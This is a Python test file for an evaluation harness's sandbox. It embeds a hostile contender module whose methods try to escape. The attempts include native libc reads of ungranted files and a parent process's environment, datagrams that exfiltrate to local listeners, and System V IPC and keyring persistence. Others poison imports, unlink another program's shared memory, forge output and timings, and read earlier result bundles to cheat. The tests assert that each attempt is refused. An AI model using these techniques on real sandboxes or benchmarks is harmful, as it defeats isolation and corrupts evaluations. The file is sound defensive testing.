"""A hostile researcher's attempts at the trust boundary, through a real `fairfight eval` (local
executor: model server, sandboxed contenders). Each attack either ends `refused` with the reason,
leaking nothing, or (the ones marked xfail) still gets through: those are the holes written up in
docs/trust-boundary.md ("What it does not enforce"); the marker comes off when one is closed.
Attacks already covered by test_attacks.py and test_sandbox.py are not repeated here."""
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from fairfight.evaluator.contender_side import sandbox

from runner_fixtures import write_fight

needs_os = pytest.mark.skipif(sandbox.expected()[0] != "os", reason="no Landlock ABI >= 4 / seccomp here")

ESCAPES = '''
import ctypes
import json
import os
import socket
import struct
import sys
from fairfight import method

FOLDER = {folder!r}
DATA = {data!r}
UDP_PORT = {udp_port!r}


def _libc():
    return ctypes.CDLL(None, use_errno=True)


def _check(rc):
    if rc < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return rc


def _native_read(path):
    libc = _libc()
    fd = _check(libc.open(path.encode(), 0))  # libc: no audit event, only the kernel can stop it
    buf = ctypes.create_string_buffer(1 << 16)
    n = libc.read(fd, buf, len(buf))
    libc.close(fd)
    return buf.raw[:max(n, 0)].decode("utf-8", "replace")


@method
def reads_granted_knowledge(ctx):
    ctx.log("read:", ctx.knowledge["secret"].strip())
    return ctx.predictors.constant("nurse")


@method
def native_reads_ungranted_knowledge(ctx):
    ctx.log("LEAK:", _native_read(FOLDER + "/secret.txt").strip())
    return ctx.predictors.constant("nurse")


@method
def guard_off_reads_ungranted_knowledge(ctx):
    from fairfight.evaluator.contender_side import guard
    guard._ACTIVE.active = False  # the audit hook is off: only the kernel is left
    ctx.log("LEAK:", open(FOLDER + "/secret.txt").read().strip())
    return ctx.predictors.constant("nurse")


@method
def native_reads_local_hf_dataset(ctx):
    ctx.log("LEAK:", len(_native_read(DATA)), "characters of the data, evaluation labels included")
    return ctx.predictors.constant("nurse")


@method
def native_udp(ctx):
    fd = _check(_libc().socket(socket.AF_INET, socket.SOCK_DGRAM, 0))  # libc: no audit event
    addr = struct.pack("<H", socket.AF_INET) + struct.pack(">H", UDP_PORT) + bytes([127, 0, 0, 1]) + bytes(8)
    _check(_libc().sendto(fd, b"exfiltrated", 11, 0, addr, len(addr)))
    ctx.log("LEAK: a datagram left the sandbox")
    return ctx.predictors.constant("nurse")


@method
def python_udp(ctx):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfiltrated", ("127.0.0.1", UDP_PORT))
    return ctx.predictors.constant("nurse")


@method
def io_uring(ctx):
    params = ctypes.create_string_buffer(120)  # io_uring would open sockets without the socket system call
    ctx.log("LEAK: io_uring fd", _check(_libc().syscall(425, 8, params)))
    return ctx.predictors.constant("nurse")


@method
def reads_parent_proc(ctx):
    outside = int(os.environ.get("FAIRFIGHT_TEST_OUTSIDE_PID") or os.getppid())  # getppid() is 0 in its PID namespace
    ctx.log("LEAK:", _native_read(f"/proc/{{outside}}/environ")[:40])
    return ctx.predictors.constant("nurse")


@method
def writes_into_its_folder(ctx):
    with open(FOLDER + "/poison.py", "w") as f:  # to change what the next run imports
        f.write("x = 1\\n")
    return ctx.predictors.constant("nurse")


@method
def writes_to_shared_memory(ctx):
    with open("/dev/shm/fairfight-escape-{pid}", "w") as f:  # to leave a note for another run
        f.write("x")
    return ctx.predictors.constant("nurse")


@method
def prints_a_verdict(ctx):
    print("supported  prints_a_verdict beats all baselines (A FORGED LINE)", flush=True)
    sys.stderr.write("warning: A FORGED WARNING\\n")
    return ctx.predictors.constant("nurse")


@method
def dies_natively(ctx):
    sys.stderr.write("LAST WORDS before the crash\\n")
    sys.stderr.flush()
    ctypes.string_at(0)  # a segfault: no Python traceback, no result from the worker


@method
def sysv_shared_memory(ctx):
    key = 0x46460000 + ({pid} % 0xFFFF)  # a segment another run (or a later eval) could attach to
    _check(_libc().shmget(key, 4096, 0o1666))  # IPC_CREAT | 0666: no file, no socket
    ctx.log("LEAK: made a System V shared memory segment")
    return ctx.predictors.constant("nurse")


@method
def sysv_message_queue(ctx):
    _check(_libc().msgget(0, 0o1666))  # IPC_PRIVATE | IPC_CREAT
    ctx.log("LEAK: made a System V message queue")
    return ctx.predictors.constant("nurse")


@method
def kernel_key_ring(ctx):
    libc = _libc()  # add_key("user", ..., KEY_SPEC_USER_KEYRING): every process of the user sees it, after the eval too
    _check(libc.syscall(248, b"user", b"fairfight-escape-{pid}", b"a note", 6, ctypes.c_long(-4)))
    ctx.log("LEAK: added a key to the user's key ring")
    return ctx.predictors.constant("nurse")


@method
def predicts_at_random(ctx):
    import random
    return ctx.predictors.function(lambda texts, model: [random.choice(["nurse", "professor"]) for _ in texts])


@method
def defers_training_to_predict(ctx):
    """The budget is not charged once evaluation began: do the training there."""
    texts = ctx.data["train"].texts
    done = []

    def predict(batch, model):
        if not done:
            model.embed(texts * 50)  # 3000 examples; the budget is 2000
            done.append(True)
        return ["nurse"] * len(batch)
    return ctx.predictors.function(predict)


@method
def finetunes_in_predict(ctx):
    texts, labels = ctx.data["train"].texts, ctx.data["train"]["profession"]
    done = []

    def predict(batch, model):
        if not done:
            done.append(model.finetune(texts, labels, steps=1))
        return ["nurse"] * len(batch)
    return ctx.predictors.function(predict)


@method
def reads_an_older_bundle(ctx):
    rows = [json.loads(line) for line in open(FOLDER + "/old-bundle/evaluation.jsonl")]
    gold = {{r["text"]: r["profession"] for r in rows}}
    return ctx.predictors.function(lambda texts, model: [gold.get(t, "nurse") for t in texts])


@method
def reads_a_bundle_in_the_working_folder(ctx):
    """`python -m fairfight.cli` puts its working folder on sys.path, which the sandbox grants."""
    rows = [json.loads(line) for line in open({beside!r} + "/evaluation.jsonl")]
    gold = {{r["text"]: r["profession"] for r in rows}}
    return ctx.predictors.function(lambda texts, model: [gold.get(t, "nurse") for t in texts])


@method
def native_reads_older_predictions(ctx):
    """A skyline's predictions in an earlier bundle are nearly the labels."""
    folder = FOLDER + "/results/old/runs/skyline-run"
    ctx.log("LEAK:", _native_read(folder + "/predictions.jsonl")[:40])
    return ctx.predictors.constant("nurse")


@method
def regenerates_builtin_data(ctx):
    from fairfight.data.builtin import generate
    gold = {{r["text"]: r["profession"] for r in generate("synthetic_bios", {{"size": 60, "test_size": 40, "seed": 3}})["test"]}}
    return ctx.predictors.function(lambda texts, model: [gold.get(t, "nurse") for t in texts])


@method
def regenerates_with_importlib(ctx):
    import importlib
    gold = {{r["text"]: r["profession"] for r in importlib.import_module("fairfight.data.builtin").generate(
        "synthetic_bios", {{"size": 60, "test_size": 40, "seed": 3}})["test"]}}
    return ctx.predictors.function(lambda texts, model: [gold.get(t, "nurse") for t in texts])


@method
def finds_the_loaded_generator(ctx):
    import gc
    import fairfight.data
    from fairfight.evaluator.contender_side import guard
    generator = sys.modules.get("fairfight.data.builtin") or getattr(fairfight.data, "builtin", None)
    if generator is not None:
        ctx.log("LEAK: the generator is still loaded")
    guard._ACTIVE.active = False  # the hook refuses gc.get_objects(): switch it off, look in memory
    names = {{o.get("__name__") for o in gc.get_objects() if type(o) is dict and type(o.get("__name__")) is str}}
    left = names & set(fairfight.data.GENERATORS)
    if left:
        ctx.log("LEAK: the generators' globals (generate() and all) are still in memory:", sorted(left))
    # its source, read by native code (a copy of it would regenerate the data)
    ctx.log("LEAK:", _native_read(os.path.join(os.path.dirname(fairfight.data.__file__), "builtin.py"))[:40])
    return ctx.predictors.constant("nurse")


@method
def has_the_resource_tracker_unlink(ctx):
    """multiprocessing's resource tracker (outside the walls) unlinks what is registered with it when
    the eval ends; the worker inherited a pipe to it."""
    from multiprocessing import resource_tracker
    os.write(resource_tracker._resource_tracker._fd, b"REGISTER:/{victim}:shared_memory\\n")
    return ctx.predictors.constant("nurse")


@method
def floods_its_output(ctx):
    """Prints 100 MiB a second (an honest loop gone wrong does too): the disk of the eval fills."""
    import time
    since, chunk = time.time(), b"x" * (1 << 20) + b"\\n"
    while time.time() - since < 10:
        os.write(1, chunk)
        time.sleep(0.01)
    return ctx.predictors.constant("nurse")


@method
def reports_it_was_quick(ctx):
    """Trains for 3 s, then stops the worker's clock, which timed it: a cheap-looking method."""
    import time
    import types
    from fairfight.evaluator.contender_side import served_worker
    time.sleep(3)
    served_worker.time = types.SimpleNamespace(time=lambda: 0.0)
    return ctx.predictors.constant("nurse")


@method
def datagram_socketpair(ctx):
    """socket() is refused, socketpair() is not: an end of a datagram pair sends to any unix datagram
    socket by its path (a program listening outside, syslog, journald)."""
    a, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    addr = struct.pack("<H", socket.AF_UNIX) + os.environ["FAIRFIGHT_TEST_UNIX_DGRAM"].encode() + b"\\0"
    _check(_libc().sendto(a.fileno(), b"exfiltrated", 11, 0, addr, len(addr)))  # libc: no audit event
    ctx.log("LEAK: a datagram reached a unix socket outside the sandbox")
    return ctx.predictors.constant("nurse")


@method
def uses_asyncio(ctx):
    """Honest: an event loop makes a SOCK_STREAM socketpair (its wake-up channel), which stays allowed."""
    import asyncio

    async def answer():
        return "nurse"
    return ctx.predictors.constant(asyncio.run(answer()))


@method
def native_unix_path_connect(ctx):
    s = socket.socket(socket.AF_UNIX)
    addr = struct.pack("<H", socket.AF_UNIX) + os.environ["FAIRFIGHT_TEST_UNIX_SOCKET"].encode() + b"\\0"
    _check(_libc().connect(s.fileno(), addr, len(addr)))
    ctx.log("LEAK: connected to a unix socket outside the sandbox")
    return ctx.predictors.constant("nurse")
'''

USES = "uses: {model: [embed], data: {train: [text, profession]}}"
VICTIM = f"fairfight-victim-{os.getpid()}"
REFUSED = {  # run -> what its reasons say
    "native_reads_ungranted_knowledge": "OS sandbox refused",
    "guard_off_reads_ungranted_knowledge": "OS sandbox refused",
    "native_reads_local_hf_dataset": "OS sandbox refused",
    "native_udp": "OS sandbox refused",
    "python_udp": "network access (an internet socket) is refused",
    "io_uring": "OS sandbox refused",
    "reads_parent_proc": "OS sandbox refused",
    "writes_into_its_folder": "OS sandbox refused",
    "writes_to_shared_memory": "OS sandbox refused",
    "sysv_shared_memory": "OS sandbox refused",
    "sysv_message_queue": "OS sandbox refused",
    "kernel_key_ring": "OS sandbox refused",
    "predicts_at_random": "batch-dependent predictions",
    "reads_an_older_bundle": "another eval's results) is refused",
    "native_reads_older_predictions": "OS sandbox refused",
    "reads_a_bundle_in_the_working_folder": "another eval's results) is refused",
    "defers_training_to_predict": "budget 'examples' exceeded",
    "finetunes_in_predict": "finetune after the predictor was returned is refused",
    "regenerates_builtin_data": "importing fairfight.data.builtin is refused",
    "regenerates_with_importlib": "builtin.py' (a data source",
    "finds_the_loaded_generator": "OS sandbox refused",
    "native_unix_path_connect": "OS sandbox refused",
    "datagram_socketpair": "OS sandbox refused",
}
HOLES = {  # run -> why it still gets through (docs/trust-boundary.md); none known now. The last one, a
    # contender saying `ready` itself to see the evaluation texts while it trained, was closed by
    # training and predicting in separate processes: test_predicting.py.
}


@pytest.fixture(scope="module")
def escapes(tmp_path_factory, bert_dir):
    folder = tmp_path_factory.mktemp("escapes")
    methods = {n: USES for n in [*REFUSED, *HOLES, "prints_a_verdict", "dies_natively",
                                 "has_the_resource_tracker_unlink", "floods_its_output",
                                 "reports_it_was_quick", "uses_asyncio"]}
    methods["reads_granted_knowledge"] = USES[:-1] + ", knowledge: [secret]}"
    methods["finetunes_in_predict"] = USES.replace("[embed]", "[embed, finetune]")
    spec = write_fight(folder, bert_dir, methods, cheaters=True, seeds=1)
    (folder / "ds").mkdir()
    (folder / "bios.jsonl").rename(folder / "ds" / "bios.jsonl")  # a local folder loaded through `hf:`
    rows = [json.loads(line) for line in (folder / "ds" / "bios.jsonl").read_text().splitlines()]
    (folder / "old-bundle").mkdir()  # what an earlier `fairfight eval --out old-bundle` left
    (folder / "old-bundle" / "evaluation.jsonl").write_text(
        "".join(json.dumps(r) + "\n" for r in rows if r["split"] == "test"))
    beside = folder.parent / f"{folder.name}-bundle"  # in the eval's working folder, not the spec's
    beside.mkdir()
    (beside / "evaluation.jsonl").write_text((folder / "old-bundle" / "evaluation.jsonl").read_text())
    old_run = folder / "results" / "old" / "runs" / "skyline-run"  # deeper: --out results/old
    old_run.mkdir(parents=True)
    for name in ("record.json", "predictions.jsonl"):
        (old_run / name).write_text("{}\n")
    (folder / "secret.txt").write_text("the-secret-knowledge\n")
    spec.write_text(spec.read_text().replace("jsonl:bios.jsonl", f"hf:{folder / 'ds'}").replace(
        "  budget: {examples: 2000}", "  budget: {examples: 2000}\n  knowledge: {secret: {artifact: secret.txt}}")
        .replace("  model: [embed, activations]", "  model: [embed, activations, finetune]"))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix_path = str(folder.parent / f"{folder.name}.sock")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(unix_path)
    listener.listen(8)
    dgram_path = str(folder.parent / f"{folder.name}.dgram")
    dgram = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    dgram.bind(dgram_path)
    (folder / "cheaters.py").write_text(ESCAPES.format(folder=str(folder), data=str(folder / "ds" / "bios.jsonl"),
                                                       udp_port=udp.getsockname()[1], pid=os.getpid(),
                                                       victim=VICTIM, beside=str(beside)))
    victim = Path("/dev/shm", VICTIM)  # another program's shared memory, which the sandbox must not delete
    victim.write_text("x")
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1", "FAIRFIGHT_TEST_UNIX_SOCKET": unix_path,
           "FAIRFIGHT_TEST_UNIX_DGRAM": dgram_path, "FAIRFIGHT_TEST_OUTSIDE_PID": str(os.getpid())}
    env.pop("FAIRFIGHT_ISOLATION", None)
    try:
        r = subprocess.run([sys.executable, "-m", "fairfight.cli", "eval", str(spec), "--out", str(folder / "bundle"),
                            "--workers", "2", "--no-progress", "--allow-refused"], capture_output=True, text=True,
                           timeout=600, env=env, cwd=folder.parent)
        udp.setblocking(False)
        datagrams = []
        for listening in (udp, dgram):
            listening.setblocking(False)
            try:
                datagrams.append(listening.recv(100))
            except BlockingIOError:
                pass
        datagram = datagrams or None
        victim_survived = victim.exists()
    finally:
        udp.close()
        listener.close()
        dgram.close()
        victim.unlink(missing_ok=True)
    results = json.loads((folder / "bundle" / "results.json").read_text())
    runs = {run["label"]: run for run in results["runs"]}
    logs = {name: (folder / "bundle" / "runs" / run["key"] / "log.txt").read_text() for name, run in runs.items()}
    return folder, r, runs, logs, (datagram, victim_survived)


@needs_os
@pytest.mark.parametrize("name", sorted(REFUSED))
def test_the_escape_is_refused_with_its_reason(escapes, name):
    _, r, runs, logs, _ = escapes
    run = runs[name]
    assert run["status"] == "refused", (run, logs[name], r.stderr[-2000:])
    assert any(REFUSED[name] in reason for reason in run["reasons"]), run["reasons"]
    assert run["metrics"] is None and "LEAK" not in logs[name], logs[name]


@needs_os
def test_nothing_left_the_sandbox(escapes):
    folder, _, _, _, (datagram, _) = escapes
    assert datagram is None  # the UDP and unix datagram listeners outside heard nothing
    assert not (folder / "poison.py").exists()
    assert not os.path.exists(f"/dev/shm/fairfight-escape-{os.getpid()}")


def test_what_a_contender_prints_goes_to_its_runs_log_not_the_terminal(escapes):
    _, r, runs, logs, _ = escapes
    assert runs["prints_a_verdict"]["status"] == "succeeded", logs["prints_a_verdict"]
    assert "A FORGED" not in r.stdout + r.stderr
    log = logs["prints_a_verdict"]
    assert "output (stdout and stderr):" in log and "A FORGED LINE" in log and "A FORGED WARNING" in log, log


def test_a_worker_that_dies_leaves_its_last_output_in_its_runs_log(escapes):
    _, r, runs, logs, _ = escapes
    assert runs["dies_natively"]["status"] == "failed"
    assert "the worker process died" in logs["dies_natively"] and "LAST WORDS" in logs["dies_natively"]
    assert "LAST WORDS" not in r.stdout + r.stderr


def test_the_resource_tracker_unlinks_nothing_for_a_contender(escapes):
    _, r, runs, logs, (_, victim_survived) = escapes
    assert runs["has_the_resource_tracker_unlink"]["status"] == "succeeded", logs["has_the_resource_tracker_unlink"]
    assert victim_survived, "the eval's resource tracker unlinked a file in /dev/shm a contender registered"
    assert VICTIM not in r.stderr


def test_a_run_that_floods_its_output_is_stopped(escapes):
    _, _, runs, logs, _ = escapes
    run = runs["floods_its_output"]
    assert run["status"] == "failed" and "passed 64 MiB" in str(run.get("error")), (run, logs["floods_its_output"][:500])
    assert "its last 64 kB" in logs["floods_its_output"]


@needs_os
def test_a_stream_socketpair_stays_allowed(escapes):
    _, _, runs, logs, _ = escapes
    assert runs["uses_asyncio"]["status"] == "succeeded", logs["uses_asyncio"]


def test_a_runs_timings_are_the_orchestrators_not_the_workers(escapes):
    _, _, runs, logs, _ = escapes
    run = runs["reports_it_was_quick"]
    assert run["status"] == "succeeded", logs["reports_it_was_quick"]
    assert run["timings"]["train"] >= 3 and run["elapsed"] >= 3, run["timings"]


@needs_os
def test_a_granted_artifact_is_still_readable_inside_the_walls(escapes):
    _, _, runs, logs, _ = escapes
    assert runs["reads_granted_knowledge"]["status"] == "succeeded", logs["reads_granted_knowledge"]
    assert "read: the-secret-knowledge" in logs["reads_granted_knowledge"]


@needs_os
@pytest.mark.parametrize("name", sorted(HOLES))
def test_known_hole_still_gets_through(escapes, name, request):
    """strict xfail: passes (and so fails the suite) once the hole is closed; then move it to REFUSED."""
    request.applymarker(pytest.mark.xfail(strict=True, reason=HOLES[name]))
    _, _, runs, logs, _ = escapes
    assert runs[name]["status"] == "refused", (runs[name]["status"], logs[name][-300:])


LINGERS = '''
import ctypes
import os
import time
from fairfight import method


@method
def forks_a_lingering_child(ctx):
    """A native fork (no audit event) that would outlive the run and eat the cores of the runs after it."""
    libc = ctypes.CDLL(None, use_errno=True)
    read, write = os.pipe()
    pid = libc.fork()
    if pid == 0:
        os.write(write, os.readlink("/proc/self").encode())  # its pid outside its PID namespace (/proc is the machine's)
        libc.setsid()  # leaving the worker's process group is denied; stay anyway
        time.sleep(60)
        os._exit(0)
    ctx.log("CHILD", os.read(read, 32).decode())
    return ctx.predictors.constant("nurse")
'''


@needs_os
def test_a_process_the_contender_forks_dies_with_its_run(tmp_path, bert_dir):
    spec = write_fight(tmp_path, bert_dir, {"forks_a_lingering_child": USES}, cheaters=True, seeds=1)
    (tmp_path / "cheaters.py").write_text(LINGERS)
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1"}
    env.pop("FAIRFIGHT_ISOLATION", None)
    with open(tmp_path / "stdout", "w") as out, open(tmp_path / "stderr", "w") as err:  # the child inherits these
        r = subprocess.run([sys.executable, "-m", "fairfight.cli", "eval", str(spec), "--out", str(tmp_path / "b"),
                            "--no-progress"], stdout=out, stderr=err, timeout=300, env=env)
    assert r.returncode == 0, (tmp_path / "stderr").read_text()
    (run,) = json.loads((tmp_path / "b" / "results.json").read_text())["runs"]
    pid = int((tmp_path / "b" / "runs" / run["key"] / "log.txt").read_text().split("CHILD")[1].split()[0])
    try:
        state = open(f"/proc/{pid}/stat").read().split(")")[-1].split()[0]
    except FileNotFoundError:
        state = None
    assert state in (None, "Z"), f"the contender's child {pid} outlived its run (state {state})"


RESTARTS = '''
import sys
import time
from fairfight import method


@method
def restarts_its_clock(ctx):
    """Says `started` again every half second through the worker's pipe, to outlive its wall_time."""
    f = sys._getframe()
    while "channel" not in f.f_locals:
        f = f.f_back
    since = time.time()
    while time.time() - since < 20:
        time.sleep(0.5)
        f.f_locals["channel"].started()
    ctx.log("LEAK: trained for 20 s on a 2 s budget")
    return ctx.predictors.constant("nurse")


@method
def trains_in_predict_without_the_model(ctx):
    """Returns at once, then trains for 20 s in its first predict(), with no model call to refuse."""
    done = []

    def predict(texts, model):
        if not done:
            time.sleep(20)
            done.append(True)
            print("LEAK: trained for 20 s on a 2 s budget", flush=True)
        return ["nurse"] * len(texts)
    return ctx.predictors.function(predict)
'''


def test_a_runs_wall_time_cannot_be_outlived(tmp_path, bert_dir):
    """Neither by saying `started` again (which restarted the orchestrator's clock) nor by training in
    predict() (the ledger stops model calls only; the orchestrator killed at wall_time in training only)."""
    methods = {"restarts_its_clock": USES, "trains_in_predict_without_the_model": USES}
    spec = write_fight(tmp_path, bert_dir, methods, cheaters=True, seeds=1)
    (tmp_path / "cheaters.py").write_text(RESTARTS)
    spec.write_text(spec.read_text().replace("budget: {examples: 2000}", "budget: {examples: 2000, wall_time: 2}"))
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1"}
    r = subprocess.run([sys.executable, "-m", "fairfight.cli", "eval", str(spec), "--out", str(tmp_path / "b"),
                        "--no-progress", "--workers", "2"], capture_output=True, text=True, timeout=300, env=env)
    runs = json.loads((tmp_path / "b" / "results.json").read_text())["runs"]
    assert len(runs) == 2, r.stderr
    for run in runs:
        log = (tmp_path / "b" / "runs" / run["key"] / "log.txt").read_text()
        assert run["status"] == "failed" and "took longer than 7 s" in str(run.get("error")), (run, log, r.stderr)
        assert "LEAK" not in log


def test_results_beside_finds_bundles_and_run_folders_but_never_the_root(tmp_path):
    from fairfight.evaluator.contender_side.worker import results_beside

    for name in ("evaluation.jsonl", "provenance.json", "results.json"):
        (tmp_path / name).write_text("{}")  # the spec's folder itself is never denied
    (tmp_path / "b1").mkdir()
    (tmp_path / "b1" / "evaluation.jsonl").write_text("{}")
    run = tmp_path / "deep" / "cache" / "key"
    run.mkdir(parents=True)
    (run / "record.json").write_text("{}")
    (run / "predictions.jsonl").write_text("{}")
    (tmp_path / "methods").mkdir()
    (tmp_path / "methods" / "results.json").write_text("{}")  # one marker of a pair: not a bundle
    (tmp_path / ".hidden").mkdir()
    (tmp_path / ".hidden" / "evaluation.jsonl").write_text("{}")
    assert sorted(results_beside(tmp_path)) == sorted([str(tmp_path / "b1"), str(run)])
    assert results_beside(tmp_path, depth=2) == [str(tmp_path / "b1")]


def test_results_in_other_roots_searches_sys_path_but_never_denies_the_spec_or_the_method(tmp_path, monkeypatch):
    from fairfight.evaluator.contender_side.worker import results_in_other_roots

    spec_folder, old, methods = tmp_path / "spec", tmp_path / "old", tmp_path / "methods"
    for folder in (spec_folder, old, methods):
        folder.mkdir()
    (spec_folder / "evaluation.jsonl").write_text("{}")  # the user's data, named like a bundle's labels
    (old / "evaluation.jsonl").write_text("{}")  # an earlier bundle in the working folder
    (methods / "record.json").write_text("{}")
    (methods / "predictions.jsonl").write_text("{}")
    # only these roots: the real sys.path holds the checkout, where an earlier `make demo` left runs/
    monkeypatch.setattr(sys, "path", [str(tmp_path)])  # `python -m` from tmp_path
    readable = [str(spec_folder), str(methods / "m.py")]
    assert results_in_other_roots(readable, spec_folder) == [str(old)]
    monkeypatch.setattr(sys, "path", [])
    assert results_in_other_roots(readable, spec_folder) == []


def test_an_output_file_that_takes_the_disk_without_growing_is_caught(tmp_path):
    """fallocate(FALLOC_FL_KEEP_SIZE) reserves disk blocks and leaves the file's size as it was."""
    import ctypes
    import types

    from fairfight.evaluator.orchestration.local import RunOutput, _output_overflow

    output = RunOutput()
    job = types.SimpleNamespace(output=output)
    try:
        assert _output_overflow(job) is None
        libc = ctypes.CDLL(None, use_errno=True)
        size = RunOutput.LIMIT + (1 << 20)
        if libc.fallocate(output.fd, 1, ctypes.c_long(0), ctypes.c_long(size)) != 0:  # FALLOC_FL_KEEP_SIZE
            pytest.skip(f"fallocate: {os.strerror(ctypes.get_errno())}")
        assert os.fstat(output.fd).st_size == 0
        assert "passed 64 MiB" in _output_overflow(job)
    finally:
        output.lines()  # closes and removes it
